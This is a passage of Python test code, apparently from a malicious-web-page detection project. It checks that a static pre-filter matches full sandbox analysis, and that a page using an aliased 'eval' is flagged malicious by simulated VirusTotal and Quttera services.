    sources = HOST_CASES + [ProgramGen(rng).program() for _ in range(PAGE_PROGRAMS)]
    prefilter_cache, sandbox_cache = CompileCache(), CompileCache()
    skipped = 0
    divergences = []
    for source in sources:
        html = _one_script_page(source)
        on = analyze_html(html, compile_cache=prefilter_cache)
        if not on.sandbox_skipped:
            continue
        skipped += 1
        off = analyze_html(html, static_prefilter=False, compile_cache=sandbox_cache)
        expected, replayed = _analysis_fields(off), _analysis_fields(on)
        if replayed != expected:
            divergences.append({
                "seed": seed, "source": source,
                "fields": sorted(k for k in expected if expected[k] != replayed[k])})
    _record_and_assert(divergences)
    assert skipped > len(sources) * 0.9


def test_aliased_eval_page_is_malicious_with_the_prefilter():
    """The verdict of a page navigating through an aliased ``eval`` does
    not depend on the pre-filter."""
    from repro.detection import QutteraSim, UrlVerdictService, VirusTotalSim, build_blacklists

    def verdict(static_prefilter):
        service = UrlVerdictService(
            virustotal=VirusTotalSim(static_prefilter=static_prefilter),
            quttera=QutteraSim(static_prefilter=static_prefilter),
            blacklists=build_blacklists([], [], random.Random(0)),
            static_prefilter=static_prefilter)
        return service.verdict("http://page.example/",
                               content=_one_script_page(ALIASED_EVAL).encode())

    on, off = verdict(True), verdict(False)
    assert off.malicious
    assert on.malicious
    assert on.labels == off.labels
